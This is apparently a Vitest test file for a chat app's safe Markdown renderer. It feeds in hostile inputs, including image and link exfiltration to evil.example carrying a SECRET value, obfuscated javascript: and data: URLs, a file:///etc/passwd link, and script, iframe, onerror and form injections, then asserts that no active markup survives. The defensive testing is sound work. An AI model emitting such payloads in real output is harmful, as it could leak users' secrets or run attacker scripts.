/** [X5] Hostile text as Markdown: nothing that loads, runs or leads away is in the page. */
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { SafeMarkdown, StreamingMarkdown } from '../../renderer/chat/safe-markdown.tsx';

const HOSTILE = [
  '![x](https://evil.example/p?d=SECRET)',
  '[click][r]\n\n[r]: https://evil.example/?d=SECRET "t"',
  '[x](jav&#x61;script:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '<script>alert(1)</script>',
  '<iframe srcdoc="<script>1</script>"></iframe>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><button>Go</button></form>',
  '<svg><use href="data:x"/></svg>',
  '[^1]\n\n[^1]: ![x](https://evil.example)',
  '| ![x](https://evil.example) |\n|---|\n| [a](javascript:1) |',
];

describe('SafeMarkdown', () => {
  test.each(HOSTILE)('%s', (text) => {
    for (const markup of [renderToStaticMarkup(<SafeMarkdown text={text} />), renderToStaticMarkup(<StreamingMarkdown text={text} />)]) {
      expect(markup).not.toMatch(/<(img|script|iframe|form|style|link|object|svg|video|a)\b/i);
      expect(markup).not.toMatch(/\s(href|src|srcset|style|action|on\w+)=/i);
    }
  });

  test('a link says its host, an image its own', () => {
    expect(renderToStaticMarkup(<SafeMarkdown text="[Returns](https://shop.example/x)" />)).toContain('(shop.example)');
    expect(renderToStaticMarkup(<SafeMarkdown text="![logo](https://shop.example/x.png)" />)).toContain('[image: shop.example] logo');
  });

  test('tables and code scroll in their own box; every block finds its own direction', () => {
    const markup = renderToStaticMarkup(<SafeMarkdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```\n\nنعم\n\nyes'} />);
    expect(markup).toContain('class="table-scroll scroll"');
    expect(markup).toMatch(/<pre class="scroll"/);
    expect(markup.match(/<p dir="auto">/g)).toHaveLength(2);
  });
});
